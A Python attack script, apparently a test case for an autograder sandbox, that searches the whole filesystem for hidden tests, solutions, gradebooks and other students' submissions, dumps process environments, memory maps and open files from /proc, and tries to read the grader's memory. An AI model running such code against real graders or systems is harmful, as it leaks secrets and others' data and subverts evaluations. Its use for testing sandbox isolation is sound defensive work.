# attack: look everywhere for the hidden tests, the solutions, results, the gradebook, other students' submissions and the grader's memory, and print what it finds
# expect: full
import os
import sys

_WANTED = ("test_hidden", "assignment.toml", "results.json", "grades.db", "feedback.md", "mutants",
           "01_tensors.ipynb", "clean.py", "probes.py", ".hypothesis")
_found, _read = [], []


def _try_read(path, limit=200_000):
    try:
        with open(path, "rb") as f:
            data = f.read(limit)
    except OSError:
        return
    _read.append(path)
    sys.stdout.write(f"--- {path}\n{data.decode('utf-8', 'replace')}\n")


for _root, _dirs, _files in os.walk("/", onerror=lambda e: None):
    if _root.startswith(("/proc", "/sys", "/dev", "/usr/lib", "/usr/share", "/usr/include")):
        _dirs[:] = []
        continue
    _dirs[:] = [d for d in _dirs if d not in ("site-packages", "dist-packages", "__pycache__")]
    for _name in _files + _dirs:
        if any(w in _name for w in _WANTED) or _name.startswith(("alice", "bob", "00", "01", "02")):
            _path = os.path.join(_root, _name)
            _found.append(_path)
            if os.path.isfile(_path) and "autograder/" not in _path:
                _try_read(_path)

# The grader and the zygote: their command lines, environments, open files and memory.
for _pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self/..", str(os.getppid())]:
    for _what in ("cmdline", "environ", "maps"):
        _try_read(f"/proc/{_pid}/{_what}", 20_000)
    try:
        for _fd in os.listdir(f"/proc/{_pid}/fd"):
            _target = os.readlink(f"/proc/{_pid}/fd/{_fd}")
            if _target.startswith("/") and not _target.startswith(("/dev", "/proc")):
                _try_read(_target)
    except OSError:
        pass
try:
    with open(f"/proc/{os.getppid()}/mem", "rb") as _mem:
        _mem.read(4096)
    print("ATTACK-BREACH read the parent's memory", flush=True)
except OSError:
    pass

print(f"found {len(_found)} names, read {len(_read)} files")
